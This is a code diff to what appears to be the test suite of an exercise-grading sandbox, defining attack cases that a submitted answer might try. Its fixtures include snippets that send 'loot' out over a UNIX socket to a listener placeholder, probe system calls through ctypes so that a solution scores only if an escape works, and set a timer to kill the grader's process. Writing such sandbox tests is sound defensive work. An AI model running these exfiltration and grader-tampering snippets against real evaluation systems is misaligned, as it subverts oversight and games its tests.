@@ -18,8 +18,8 @@ class Attack:
     Args:
         what: in a few words.
         by: what stops it.
-        source: of the exercise's file. `@FOLDER@` stands for the attacker's folder, in which a file `secret` is somebody
-            else's, `@TCP@`, `@UDP@` and `@UNIX@` for where somebody listens, `@PARENT@` for the grader's process and
+        source: of the exercise's file. `@FOLDER@` stands for the attacker's folder, in which a file `secret` is that of
+            another, `@TCP@`, `@UDP@` and `@UNIX@` for where somebody listens, `@PARENT@` for the grader's process and
             `@SOLUTION@` for the path of a solution.
         exercise: that it is handed in for.
         most: points that it may get nevertheless.
@@ -45,7 +45,8 @@ def relu_with(body: str) -> str:
 
 def unless_stopped(*attempts: str) -> str:
     """Return an answer to the exercise on ReLU that is right where one of some statements works."""
-    body = ["import ctypes", "libc, through = ctypes.CDLL(None, use_errno=True), relu.__dict__.setdefault('through', [])"]
+    body = ["import ctypes", "libc = ctypes.CDLL(None, use_errno=True)"]
+    body += ["through = relu.__dict__.setdefault('through', [])"]  # some work only once
     for attempt in attempts:
         body += [f"try: through += [True] if ({attempt}) != -1 else []", "except OSError: pass"]
     return relu_with("\n".join([*body, "return np.maximum(values, 0) if through else 0 * values"]))
@@ -145,9 +146,7 @@ fcntl.fcntl(heard, 10, 9)
 fcntl.fcntl(heard, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
 os.write(told, b"loot")
 """
-_EXFILTRATE_UNIX = (
-    "import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
-)
+_EXFILTRATE_UNIX = "import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
 _KILL_BY_TIMER = """
 import ctypes, platform
 create, set_time = {"x86_64": (222, 223), "aarch64": (107, 110)}[platform.machine()]
